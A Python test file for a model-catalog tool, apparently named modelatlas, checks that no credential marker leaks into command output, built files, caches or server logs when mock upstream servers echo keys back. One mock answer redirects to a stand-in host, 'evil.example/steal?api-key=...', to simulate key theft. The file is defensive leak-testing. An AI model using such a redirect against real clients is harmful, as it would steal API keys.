"""A marker key in every credential the registry declares, echoed back by hostile upstreams (real local
HTTP servers: error bodies, headers, redirects, model ids, names and descriptions, and the public
catalogs), then ``fetch``, ``build``, ``validate`` and ``serve`` run as real processes: no byte of
their stdout or stderr, and no file under data/, the build, the catalog cache or HOME, holds a
marker or the first half of one."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

from modelatlas.fetch.providers.credentials import credential_settings
from modelatlas.fetch.providers.registry import PROVIDERS
from tests.paths import EMPTY_CATALOGS, FIXTURES, REPO
from tests.upstream_server import Answer, Request, upstream

MARKERS = {name: "mk" + hashlib.sha256(name.encode()).hexdigest()[:30] for name in credential_settings()}
LISTS = ("openai", "groq", "cerebras", "parasail", "perplexity", "sgl", "mistral")


def _echo(request: Request) -> str:
    """Every credential the request carried (its header values holding a marker)."""
    values = " ".join(request.headers.values())
    return " ".join(marker for marker in MARKERS.values() if marker in values) or "none"


def _json(status: int, body: object, **headers: str) -> Answer:
    return Answer(status, json.dumps(body).encode(), headers)


def _provider_answer(provider: str, echo: str) -> Answer:
    first = echo.split()[0]
    if provider in LISTS:
        items = [
            {"id": "good-model-1", "object": "model", "created": 1700000000, "owned_by": "system"},
            {
                "id": f"model-{first}",
                "object": "model",
                "created": 1700000000,
                "owned_by": first,
                "name": "x" * 95 + echo,
                "description": f"call with Authorization: Bearer {echo}",
            },
        ]
        return _json(200, {"object": "list", "data": items})
    prices = {"prompt": "0.000001", "completion": "0.000002"}
    answers = {
        "anthropic": lambda: _json(
            401, {"type": "error", "error": {"type": "authentication_error", "message": f"bad key {echo}"}}
        ),
        "azure": lambda: Answer(302, b"", {"Location": f"http://{first}.evil.example/steal?api-key={first}"}),
        "bedrock": lambda: _json(
            403,
            {"message": f"The security token {echo} included in the request is invalid."},
            **{"x-amzn-ErrorType": f"UnrecognizedClientException:{first}"},
        ),
        "cohere": lambda: Answer(500, f"<h1>bad key {echo}</h1>".encode(), {"Content-Type": "text/html"}),
        "vertex": lambda: _json(403, {"error": {"code": 403, "message": f"denied: {echo}"}}),
        "gemini": lambda: _json(400, {"error": {"code": 400, "message": f"API key not valid {echo}"}}),
        "ollama": lambda: _json(
            200,
            {"models": [{"name": f"l-{first}:8b", "model": f"l-{first}:8b", "details": {"family": first}}]},
        ),
        "openrouter": lambda: _json(
            200,
            {
                "data": [
                    {
                        "id": f"openai/gpt-{first}",
                        "name": echo,
                        "description": echo,
                        "context_length": 1000,
                        "pricing": prices,
                    }
                ]
            },
        ),
        "elevenlabs": lambda: _json(
            200,
            [{"model_id": f"e-{first}", "name": echo, "description": echo, "can_do_text_to_speech": True}],
        ),
    }
    return answers[provider]()


def _catalog_answer(name: str) -> Answer:
    """The public catalogs get no credential, but echo every marker anyway (ids, names, an error body)."""
    marker = MARKERS["AWS_BEARER_TOKEN_BEDROCK"]
    everything = " ".join(MARKERS.values())
    bodies = {
        "models-dev": {
            "openai": {
                "id": "openai",
                "name": "OpenAI",
                "models": {
                    f"gpt-{marker}": {
                        "id": f"gpt-{marker}",
                        "name": everything,
                        "cost": {"input": 1, "output": 2},
                        "limit": {"context": 1000, "output": 100},
                    }
                },
            }
        },
        "litellm": {
            f"gpt-{marker}": {
                "litellm_provider": "openai",
                "mode": "chat",
                "input_cost_per_token": 1e-06,
                "output_cost_per_token": 2e-06,
            }
        },
        "openrouter": {
            "data": [
                {
                    "id": f"openai/gpt-{marker}",
                    "name": everything,
                    "context_length": 1000,
                    "pricing": {"prompt": "0.000001", "completion": "0.000002"},
                }
            ]
        },
    }
    if name not in bodies:  # ruby_llm fails, and says why with every marker in its body
        return _json(503, {"error": {"message": f"maintenance {everything}"}})
    return _json(200, bodies[name])


def _route(request: Request) -> Answer:
    first, _, _ = request.path.lstrip("/").partition("/")
    if first == "catalog":
        return _catalog_answer(request.path.rsplit("/", 1)[-1].removesuffix(".json"))
    return _provider_answer(first, _echo(request))


def _environment(base: str, tmp: Path) -> dict[str, str]:
    env = {name: value for name, value in os.environ.items() if not name.startswith("MODELATLAS_")}
    env.update(MARKERS)
    for provider in PROVIDERS:
        env[provider.override_var] = f"{base}/{provider.id}"
    env.update(
        EMPTY_CATALOGS,
        MODELATLAS_MODELS_DEV_URL=f"{base}/catalog/models-dev.json",
        MODELATLAS_LITELLM_URL=f"{base}/catalog/litellm.json",
        MODELATLAS_OPENROUTER_URL=f"{base}/catalog/openrouter.json",
        MODELATLAS_RUBY_LLM_URL=f"{base}/catalog/ruby-llm.json",
        MODELATLAS_HTTP_RETRIES="0",
        MODELATLAS_CACHE_DIR=str(tmp / "cache"),
        HOME=str(tmp / "home"),
        PYTHONPATH=os.pathsep.join([str(REPO / "src"), os.environ.get("PYTHONPATH", "")]),
    )
    return env


def _run(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "modelatlas", *args]
    return subprocess.run(command, env=env, capture_output=True, timeout=300, check=False)


def _every_file(*folders: Path) -> Iterator[Path]:
    for folder in folders:
        yield from (path for path in folder.rglob("*") if path.is_file())


def _leaks(data: bytes) -> list[str]:
    return [name for name, marker in MARKERS.items() if marker[: len(marker) // 2].encode() in data]


def test_no_declared_credential_reaches_any_output_or_file(tmp_path: Path) -> None:
    data, out, home = tmp_path / "data", tmp_path / "build", tmp_path / "home"
    shutil.copytree(FIXTURES / "data_small", data)
    home.mkdir()
    outputs: dict[str, bytes] = {}
    with upstream(_route) as base:
        env = _environment(base, tmp_path)
        fetched = _run(env, "fetch", "--data", str(data), "--now", "2026-11-27T00:00:00Z")
        outputs.update({"fetch stdout": fetched.stdout, "fetch stderr": fetched.stderr})
    assert fetched.returncode == 3, fetched.stderr.decode()
    stderr = fetched.stderr.decode()
    assert "bedrock: FAILED" in stderr and "HTTP 403" in stderr and "UnrecognizedClientException" in stderr
    assert (
        "security token *** included"
        in json.loads((data / "providers" / "bedrock.json").read_text())["status"]["reason"]
    )  # the reason is kept, the key is not
    built = _run(env, "build", "--data", str(data), "--out", str(out), "--allow-missing")
    assert built.returncode == 0, built.stderr.decode()
    checked = _run(env, "validate", "--data", str(data), "--dir", str(out), "--allow-missing")
    outputs.update(
        {
            "build stdout": built.stdout,
            "build stderr": built.stderr,
            "validate stdout": checked.stdout,
            "validate stderr": checked.stderr,
        }
    )
    assert checked.returncode == 0, checked.stdout.decode() + checked.stderr.decode()
    assert (out / "v1" / "model" / "groq").is_dir()  # listed models with echoed fields were built
    outputs["serve"] = _serve_with_marker_in_path(out, env)
    for path in _every_file(data, out, home, tmp_path / "cache"):
        outputs[str(path)] = path.read_bytes()
    leaked = {where: names for where, content in outputs.items() if (names := _leaks(content))}
    assert not leaked, f"credential markers found in: {leaked}"
    assert len(outputs) > 50


def _serve_with_marker_in_path(out: Path, env: dict[str, str]) -> bytes:
    """A request naming a credential in its path: the server's request log must not repeat it."""
    command = [sys.executable, "-m", "modelatlas", "serve", "--dir", str(out), "--port", "0"]
    process = subprocess.Popen(
        command, env={**env, "PYTHONUNBUFFERED": "1"}, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    try:
        assert process.stdout is not None
        first = process.stdout.readline()
        url = first.decode().split(" at ", 1)[1].split("/ ", 1)[0]
        try:
            urllib.request.urlopen(f"{url}/v1/models/openai%2Fmodel-{MARKERS['OPENAI_API_KEY']}", timeout=10)
        except urllib.error.HTTPError as exc:
            assert exc.code == 404
        assert urllib.request.urlopen(f"{url}/v1/models", timeout=10).status == 200
    finally:
        process.terminate()
        rest, log = process.communicate(timeout=10)
    assert b"GET /v1/models" in log  # the request log was written (and is searched)
    return first + rest + log
